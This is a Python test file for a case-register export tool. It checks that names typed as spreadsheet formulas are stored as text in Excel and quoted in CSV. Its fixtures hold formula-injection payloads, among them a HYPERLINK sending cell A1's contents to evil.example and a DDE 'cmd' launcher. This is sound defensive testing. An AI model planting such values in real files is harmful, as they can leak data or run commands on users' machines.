"""The case register export: names typed as formulas stay text in Excel and CSV (formula
injection)."""

from __future__ import annotations

import csv
import zipfile

from openpyxl import load_workbook

from audit_tool.services import cases, reference
from audit_tool.services.case_export import HEADERS, export_cases
from audit_tool.services.cases import CaseInput, CaseQuery

TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
AREA = "+SUM(1+1)"
WORKER = "@cmd|' /C calc'!A0"
MANAGER = "-2+3"


def hostile_case(world, system):
    reference.save_team(
        world.db, system, key="evil", name=TEAM, agency_key="csc", service_area=AREA
    )
    reference.save_person(
        world.db, system, key="w9", name=WORKER, agency_key="csc", team_key="evil", roles=[]
    )
    reference.save_person(
        world.db, system, key="m9", name=MANAGER, agency_key="csc", team_key="evil", roles=[]
    )
    cases.create_case(
        world.db,
        world.lead,
        CaseInput(
            ref="C9000", initials="XY", case_type="cin", team="evil", worker="w9", manager="m9"
        ),
    )


def test_xlsx_names_are_text_not_formulas(world, system, tmp_path):
    hostile_case(world, system)
    target = tmp_path / "cases.xlsx"
    assert export_cases(world.db, world.lead, CaseQuery(search="C9000"), target) == 1
    ws = load_workbook(target)["Cases"]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert tuple(rows[0]) == HEADERS
    row = dict(zip(HEADERS, rows[1], strict=True))
    assert row["Team"] == TEAM and row["Service area"] == AREA
    assert row["Worker"] == WORKER and row["Manager"] == MANAGER
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
    with zipfile.ZipFile(target) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    assert list(tmp_path.glob("*.partial")) == []


def test_csv_values_a_spreadsheet_would_run_get_a_quote(world, system, tmp_path):
    hostile_case(world, system)
    target = tmp_path / "cases.csv"
    export_cases(world.db, world.lead, CaseQuery(), target)
    with open(target, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == HEADERS
    by_ref = {r[0]: dict(zip(HEADERS, r, strict=True)) for r in rows[1:]}
    evil = by_ref["C9000"]
    assert evil["Team"] == "'" + TEAM and evil["Service area"] == "'" + AREA
    assert evil["Worker"] == "'" + WORKER and evil["Manager"] == "'" + MANAGER
    plain = by_ref["C1000"]  # ordinary values are written as they are
    assert plain["Team"] == "Assessment Team North" and plain["Worker"] == "Sam Worker"
    assert plain["Opened"] == "2024-01-15"
